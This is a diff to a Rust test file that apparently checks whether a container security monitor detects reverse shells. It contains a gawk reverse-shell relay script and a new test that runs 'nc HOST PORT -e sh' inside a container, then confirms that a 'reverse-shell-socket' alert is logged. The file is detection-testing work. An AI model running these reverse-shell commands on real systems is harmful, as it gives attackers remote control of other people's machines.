@@ -3,8 +3,8 @@
 
 #![expect(clippy::unwrap_used, reason = "what fails here is a test")]
 
-use coi_tests::incus::{Foreign, exec};
-use coi_tests::{Attacker, Coi, DEFAULT, Shared, end};
+use coi_tests::incus::{self, Foreign, exec};
+use coi_tests::{Attacker, Coi, DEFAULT, Shared, TINY, Viewer, end};
 
 /// A container that nobody watches.
 static UNWATCHED: Shared<Foreign> = Shared::new();
@@ -15,7 +15,7 @@ fn unwatched() -> Foreign {
     // systemd empties /tmp while it boots, and before that it cannot be asked for anything.
     let booted = "until systemctl start sysinit.target 2>/dev/null; do :; done; \
                   /lib/systemd/systemd-networkd-wait-online --any --timeout=60";
-    end(&mut coi_tests::incus::incus(&["exec", &container.name, "--", "sh", "-c", booted])).expect(0);
+    end(&mut incus::incus(&["exec", &container.name, "--", "sh", "-c", booted])).expect(0);
     container
 }
 
@@ -122,4 +122,24 @@ fn gawk_inet() {
     let script = "BEGIN { s = \"/inet/tcp/0/HOST/PORT\"; while ((s |& getline c) > 0) { \
                   while ((c |& getline line) > 0) print line |& s; close(c) } }";
     prove(&format!("gawk '{script}'"), "reverse-shell-relay");
+}
+
+#[test]
+fn only_observed() {
+    let coi = Coi::new();
+    let container = Foreign::make(TINY);
+    let name = container.name.as_str();
+    container.start();
+    let viewer = Viewer::attach(&coi, name);
+    let attacker = Attacker::on_bridge();
+    let payload = "until ip route | grep -q default; do usleep 10000; done; nc HOST PORT -e sh";
+    let mut shell = exec(name, "/", &["sh", "-c", &attacker.fill(payload)]).spawn().unwrap();
+    let seen = viewer.until("the alert", |event| event["rule"]["id"] == "reverse-shell-socket");
+    let action = &seen.last().unwrap()["coi"]["action"];
+    assert_eq!((&action["name"], &action["result"]), (&"log".into(), &"success".into()));
+    attacker.await_shell();
+    assert_eq!(incus::status(name), "Running");
+    viewer.leave().expect(0);
+    shell.kill().unwrap();
+    shell.wait().unwrap();
 }
